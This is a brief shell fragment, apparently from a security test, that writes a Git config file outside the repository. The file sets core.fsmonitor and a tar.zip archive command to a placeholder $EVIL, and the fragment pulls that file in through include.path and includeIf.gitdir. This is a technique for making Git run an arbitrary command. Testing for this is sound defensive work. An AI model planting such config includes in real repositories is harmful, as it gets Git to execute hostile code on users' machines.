printf '[core]\nfsmonitor = %s\n[tar "zip"]\ncommand = %s\n' "$EVIL" "$EVIL" >"$OUTSIDE/more"
git config include.path "$OUTSIDE/more"
git config includeIf.gitdir:/.path "$OUTSIDE/more"
